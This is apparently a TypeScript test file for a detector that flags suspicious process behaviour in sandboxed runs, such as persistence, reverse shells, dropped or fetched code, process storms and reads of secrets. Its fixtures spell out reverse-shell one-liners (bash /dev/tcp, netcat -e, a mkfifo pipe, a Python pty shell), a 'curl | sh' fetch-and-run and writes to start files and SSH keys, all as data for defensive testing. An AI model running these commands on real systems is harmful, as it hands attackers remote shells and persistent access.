import { describe, expect, it } from 'vitest';
import { called, connected, ended, forked, judged, made, opened, started, told } from './sample-events.ts';

const call = '5:tools/call:save';

describe('persistence', () => {
  it.each([
    { title: 'a start file', events: [opened('/home/sam/.bashrc', 'write')] },
    { title: 'a start file, by another way', events: [opened('/home/sam/x/../.zshrc', 'write')] },
    { title: 'a rename', events: [made('rename', { from: { text: '/tmp/x' }, to: { text: '/home/sam/.profile' } })] },
    {
      title: 'a link',
      events: [made('link', { from: { text: '/tmp/x' }, to: { text: '/home/sam/.config/autostart/a.desktop' } })],
    },
    {
      title: 'a file that is there in the end',
      events: [made('disk-change', { path: { text: '/home/sam/.bashrc' }, change: 'changed', type: 'file' })],
    },
    { title: 'a login key', events: [opened('/home/sam/.ssh/authorized_keys', 'write')] },
    { title: 'settings of a client', events: [opened('/home/sam/.cursor/mcp.json', 'write')] },
    { title: 'a hook', events: [opened('/home/sam/code/.git/hooks/pre-commit', 'write')] },
    { title: 'an attempt that was denied', events: [opened('/etc/cron.d/x', 'write', { outcome: 'denied' })] },
    { title: 'a table of cron', events: [started(['crontab', '-'])] },
    { title: 'a unit', events: [started(['systemctl', '--user', 'enable', 'x'])] },
  ])('is seen by $title', async ({ events }) => {
    expect(await told(events)).toEqual(['B high persistence']);
  });

  it.each([
    { title: 'reading it', events: [opened('/home/sam/.bashrc')] },
    { title: 'settings of its own', events: [opened('/home/sam/.config/themes/theme', 'write')] },
    { title: 'sample hooks', events: [opened('/home/sam/new/.git/hooks/pre-push.sample', 'write')] },
    {
      title: 'hooks that git writes',
      events: [opened('/home/sam/new/.git/hooks/x', 'write', { argv: ['git', 'init'] })],
    },
    { title: 'its own folder', events: [opened('/opt/target/.vscode/tasks.json', 'write')] },
    {
      title: 'what a call named',
      events: [called(call, { file: '/home/sam/.bashrc' }), opened('/home/sam/.bashrc', 'write', { call })],
    },
    { title: 'a file that was not there', events: [opened('/home/sam/.bashrc', 'read-write', { outcome: 'failed' })] },
    { title: 'looking at cron', events: [started(['crontab', '-l'])] },
    {
      title: 'pip',
      events: [
        opened('/home/sam/.local/lib/python3.12/site-packages/x.pth', 'write', {
          argv: ['python3', '-m', 'pip', 'install', 'x'],
        }),
      ],
    },
  ])('is not $title', async ({ events }) => {
    expect(await told(events)).toEqual([]);
  });
});

describe('what is left running', () => {
  const main = [forked(100, 99, { phase: 'start' }), started(['node', 'server.js'], { phase: 'start' })];
  const nothing = (pid: number) => opened('/dev/null', 'read', { pid, parent: 100 });
  const daemon = [
    forked(200, 100),
    nothing(200),
    nothing(200),
    nothing(200),
    started(['sleep', '120'], { pid: 200, parent: 100 }),
  ];
  const stop = [ended(100, 99, { code: 0 })];
  const killed = [ended(200, 100, { signal: 'SIGKILL' })];

  it('is a process that was cut off and survived', async () => {
    expect(await told([...main, ...daemon, ...stop, ...killed])).toEqual(['C medium left-running']);
    expect(await told([...main, ...daemon, ...stop])).toEqual(['C medium left-running']);
  });

  it('weighs more when it talks', async () => {
    const talk = connected('45.77.1.2', 443, { pid: 200, parent: 100, phase: 'install' });
    expect(await told([...main, ...daemon, talk, ...stop, ...killed])).toContain('B medium left-running');
  });

  it('is a process whose parent went before', async () => {
    const twice = [
      forked(150, 100),
      forked(200, 150),
      ended(150, 100, { code: 0 }),
      started(['python3', 'x.py'], { pid: 200, parent: 150 }),
    ];
    expect(await told([...main, ...twice, ...stop, ...killed])).toEqual(['C medium left-running']);
  });

  it.each([
    { title: 'a child that ended before', events: [...main, ...daemon, ended(200, 100, { code: 0 }), ...stop] },
    { title: 'a child that ended by itself', events: [...main, ...daemon, ...stop, ended(200, 100, { code: 0 })] },
    {
      title: 'a worker',
      events: [
        ...main,
        forked(200, 100),
        started(['node', 'worker.js'], { pid: 200, parent: 100 }),
        ...stop,
        ...killed,
      ],
    },
    {
      title: 'a server that was killed with all it had',
      events: [...main, ...daemon, ended(100, 99, { signal: 'SIGKILL' }), ...killed],
    },
  ])('is not $title', async ({ events }) => {
    expect(await told(events)).toEqual([]);
  });
});

describe('processes that hide or reach', () => {
  it.each([
    {
      title: 'a part of the kernel',
      event: made('exec', { path: { text: '/tmp/x' }, argv: [{ text: '[kworker/0:1]' }] }),
      rule: 'B high hidden-process',
    },
    {
      title: 'a program in memory',
      event: made('exec', { path: { text: '/proc/self/fd/9' }, argv: [{ text: 'x' }] }),
      rule: 'B high hidden-process',
    },
    {
      title: 'a daemon',
      event: made('exec', { path: { text: '/usr/bin/python3' }, argv: [{ text: 'sshd' }] }),
      rule: 'C medium hidden-process',
    },
    {
      title: 'a removed file',
      event: made('exec', { path: { text: '/tmp/x (deleted)' }, argv: [] }),
      rule: 'C medium hidden-process',
    },
    {
      title: 'a tracer',
      event: made('ptrace', { call: 'ptrace', request: 16, pid: 7 }),
      rule: 'B high reaches-into-process',
    },
    {
      title: 'a reader of memory',
      event: made('ptrace', { call: 'process_vm_readv', pid: 7 }),
      rule: 'B high reaches-into-process',
    },
    {
      title: 'one that wants to be root',
      event: made('set-user', { call: 'setuid', ids: [0] }, { argv: ['python3', 's.py'] }),
      rule: 'C low becomes-root',
    },
  ])('$title is seen', async ({ event, rule }) => {
    expect(await told([event])).toEqual([rule]);
  });

  it.each([
    { title: 'node', event: started(['node', 'x.js']) },
    { title: 'a login shell', event: made('exec', { path: { text: '/bin/bash' }, argv: [{ text: '-bash' }] }) },
    { title: 'busybox', event: made('exec', { path: { text: '/bin/busybox' }, argv: [{ text: 'crond' }] }) },
    { title: 'gdb', event: made('ptrace', { call: 'ptrace', request: 16 }, { argv: ['gdb', 'x'] }) },
    { title: 'a wish to be traced', event: made('ptrace', { call: 'ptrace', request: 0 }) },
    { title: 'giving up rights', event: made('set-user', { call: 'setuid', ids: [1000] }, { argv: ['python3'] }) },
  ])('$title is not', async ({ event }) => {
    expect(await told([event])).toEqual([]);
  });
});

describe('a shell for somebody outside', () => {
  it.each([
    { title: 'by the shell itself', events: [started(['bash', '-c', 'bash -i >& /dev/tcp/10.9.8.7/4444 0>&1'])] },
    { title: 'by netcat', events: [started(['nc', '10.9.8.7', '4444', '-e', '/bin/sh'])] },
    {
      title: 'by a pipe',
      events: [started(['sh', '-c', 'mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.9.8.7 1 > /tmp/f'])],
    },
    {
      title: 'by python',
      events: [
        started(['python3', '-c', 'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn("sh")']),
      ],
    },
    { title: 'by becoming one', events: [connected('10.9.8.7', 4444), started(['sh'])] },
    {
      title: 'by starting one',
      events: [connected('10.9.8.7', 4444), started(['/bin/sh', '-i'], { pid: 101, parent: 100 })],
    },
  ])('$title', async ({ events }) => {
    expect(await told(events)).toEqual(['B critical reverse-shell']);
  });

  it.each([
    {
      title: 'a command of a server that has connections',
      events: [connected('10.9.8.7', 443), started(['sh', '-c', 'git status'], { pid: 101, parent: 100 })],
    },
    { title: 'a terminal', events: [connected('10.9.8.7', 443), started(['bash', '-l'], { pid: 101, parent: 100 })] },
    { title: 'a script', events: [connected('10.9.8.7', 443), started(['sh', '/opt/target/run.sh'])] },
    { title: 'netcat that looks', events: [started(['nc', '-z', 'localhost', '5432'])] },
    { title: 'a local connection', events: [connected('127.0.0.1', 5432), started(['sh'])] },
  ])('is not $title', async ({ events }) => {
    expect(await told(events)).toEqual([]);
  });
});

describe('code that came to be', () => {
  const dropped = [opened('/home/sam/.x/a.sh', 'write'), started(['sh', '/home/sam/.x/a.sh'], { pid: 101 })];
  it.each([
    { title: 'written and run', events: dropped, rule: 'B high dropped-code' },
    {
      title: 'written and run at install',
      events: [opened('/tmp/x1', 'write', { phase: 'install' }), started(['/tmp/x1'], { phase: 'install' })],
      rule: 'B high dropped-code',
    },
    {
      title: 'moved and run',
      events: [
        opened('/tmp/a', 'write'),
        made('rename', { from: { text: '/tmp/a' }, to: { text: '/tmp/b' } }),
        started(['/tmp/b']),
      ],
      rule: 'B high dropped-code',
    },
    {
      title: 'run in a call',
      events: [called(call, { title: 'x' }), ...dropped.map((event) => ({ ...event, call }))],
      rule: 'C medium dropped-code',
    },
    {
      title: 'fetched and run',
      events: [started(['sh', '-c', 'curl -s https://get.example | sh'])],
      rule: 'B high fetched-code',
    },
    {
      title: 'fetched to a file',
      events: [opened('/tmp/m', 'write', { argv: ['curl', '-o', '/tmp/m', 'x'] }), started(['/tmp/m'])],
      rule: 'B high fetched-code',
    },
  ])('$title', async ({ events, rule }) => {
    expect(await told(events)).toEqual([rule]);
  });

  it.each([
    {
      title: 'of its own folder',
      events: [
        opened('/opt/target/node_modules/esbuild/bin/x', 'write', { phase: 'install' }),
        started(['/opt/target/node_modules/esbuild/bin/x'], { phase: 'install' }),
      ],
    },
    {
      title: 'of a build',
      events: [opened('/tmp/pip-build-env-1/x.py', 'write'), started(['python3', '/tmp/pip-build-env-1/x.py'])],
    },
    {
      title: 'of a tool that runs code',
      events: [
        opened('/tmp/c.py', 'write', { call: '7:tools/call:run_python' }),
        started(['python3', '/tmp/c.py'], { call: '7:tools/call:run_python' }),
      ],
    },
    { title: 'that was only written', events: [opened('/tmp/c.py', 'write')] },
    {
      title: 'that was there before under another name',
      events: [
        made('link', { from: { text: '/usr/bin/python3' }, to: { text: '/home/sam/v/bin/python' }, isSymbolic: true }),
        started(['/home/sam/v/bin/python', 'x.py']),
      ],
    },
    { title: 'that only downloads', events: [started(['curl', '-o', 'x.png', 'https://a.example/x.png'])] },
  ])('is not $title', async ({ events }) => {
    expect(await told(events)).toEqual([]);
  });
});

describe('limits and storms', () => {
  const hit = (limit: string) => made('limit-hit', { limit, detail: 'x' }, { phase: 'stop' });
  const forks = (count: number, isEnding: boolean) =>
    Array.from({ length: count }, (_, at) => [
      forked(300 + at, 100),
      ...(isEnding ? [ended(300 + at, 100, { code: 0 })] : []),
    ]).flat();

  it.each([
    { title: 'processes', events: [hit('processes')], rules: ['C medium resource-exhaustion'] },
    {
      title: 'memory after trials',
      events: [opened('/opt/target/x', 'read', { phase: 'attack' }), hit('memoryBytes')],
      rules: ['C low resource-exhaustion'],
    },
    { title: 'our own time', events: [hit('wallMs')], rules: [] },
    { title: 'of the wire', events: [hit('readBytes')], rules: [] },
    { title: 'a storm', events: forks(30, false), rules: ['B high process-storm'] },
    { title: 'many that end', events: forks(100, true), rules: [] },
    { title: 'very many that end', events: forks(500, true), rules: ['B high process-storm'] },
    { title: 'a few', events: forks(10, false), rules: [] },
  ])('$title: $rules', async ({ events, rules }) => {
    expect(await told(events)).toEqual(rules);
  });

  it('says on which axis', async () => {
    const trial = opened('/opt/target/x', 'read', { phase: 'attack' });
    expect((await judged([hit('memoryBytes')]))[0]?.axis).toBe('hostility');
    expect((await judged([trial, hit('memoryBytes')]))[0]?.axis).toBe('weakness');
  });
});

describe('places outside of its business', () => {
  it.each([
    {
      title: 'the socket of an engine',
      event: made('connect', { family: 'unix', path: { text: '/var/run/docker.sock' } }),
      rule: 'C medium outside-business',
    },
    { title: 'variables of others', event: opened('/proc/812/environ'), rule: 'C medium outside-business' },
    {
      title: 'passwords, denied',
      event: opened('/etc/shadow', 'read', { outcome: 'denied' }),
      rule: 'C medium outside-business',
    },
    { title: 'another home', event: opened('/home/kim/notes.txt'), rule: 'C low outside-business' },
    {
      title: 'a key of gpg',
      event: opened('/home/sam/.gnupg/private-keys-v1.d/a.key'),
      rule: 'C medium outside-business',
    },
  ])('$title', async ({ event, rule }) => {
    expect(await told([event])).toEqual([rule]);
  });

  it.each([
    { title: 'users', event: opened('/etc/passwd') },
    { title: 'itself', event: opened('/proc/self/environ') },
    { title: 'what ps reads', event: opened('/proc/812/environ', 'read', { argv: ['ps', 'aux'] }) },
    { title: 'its home', event: opened('/home/sam/.config/x.json') },
    { title: 'the way to its own folder', event: opened('/home/sam', 'read') },
    { title: 'a home that is not there', event: opened('/root/.config/x', 'read', { outcome: 'failed' }) },
    { title: 'during a trial', event: opened('/etc/shadow', 'read', { phase: 'attack' }) },
    { title: 'a switch that is only read', event: opened('/proc/sys/kernel/core_pattern') },
    {
      title: 'lookups of the C library',
      event: made('connect', { family: 'unix', path: { text: '/var/run/nscd/socket' } }),
    },
  ])('is not $title', async ({ event }) => {
    expect(await told([event])).toEqual([]);
  });
});
